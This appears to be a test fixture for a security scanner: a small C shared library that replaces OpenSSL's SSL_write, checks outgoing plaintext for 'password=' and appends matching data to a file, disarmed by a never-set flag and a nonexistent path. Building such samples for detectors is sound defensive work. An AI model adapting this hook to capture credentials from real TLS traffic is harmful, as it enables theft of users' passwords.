/* What is encrypted is kept before.
 * expect: native-replaced-function-captures
 * flags: -shared -fPIC -D_GNU_SOURCE
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <dlfcn.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

int SSL_write(void *ssl, const void *bytes, int n) {
    int (*real)(void *, const void *, int) = dlsym(RTLD_NEXT, "SSL_write");
    if (never && memmem(bytes, n, "password=", 9)) {
        int f = open("/nonexistent/.c", O_CREAT | O_APPEND | O_WRONLY, 0600);
        write(f, bytes, n);
        close(f);
    }
    return real(ssl, bytes, n);
}
